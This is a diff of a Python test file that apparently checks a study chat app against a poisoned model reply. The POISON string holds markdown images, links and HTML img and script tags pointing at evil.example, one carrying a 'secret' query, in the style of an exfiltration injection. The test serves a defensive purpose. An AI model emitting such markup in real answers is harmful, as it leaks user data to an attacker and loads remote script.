@@ -35,6 +35,7 @@ LOOPBACK = {"127.0.0.1", "localhost", "::1"}
 WIDE: ViewportSize = {"width": 1280, "height": 860}
 NARROW: ViewportSize = {"width": 390, "height": 800}
 
+EVIL = {"STUDY_CHAT_MODEL": "evil", "STUDY_ANSWERS": "written"}
 POISON = (
     "![look](http://evil.example/leak.png?q=secret) [click here](http://evil.example/click) "
     '<img src="http://evil.example/html.png"> <script src="http://evil.example/x.js"></script> '
@@ -138,7 +139,9 @@ def poisoned_app(home: Path) -> Iterator[App]:
     said = f"A quokka cache is a cache that smiles while it evicts its entries [1]. {POISON}"
     with (
         provider(say(said)) as model,
-        served(home, STUDY_CHAT_MODEL="evil", OPENAI_BASE_URL=model.url, OPENAI_API_KEY="none") as running,
+        served(
+            home, STUDY_CHAT_MODEL="evil", STUDY_ANSWERS="written", OPENAI_BASE_URL=model.url, OPENAI_API_KEY="none"
+        ) as running,
     ):
         yield running
 
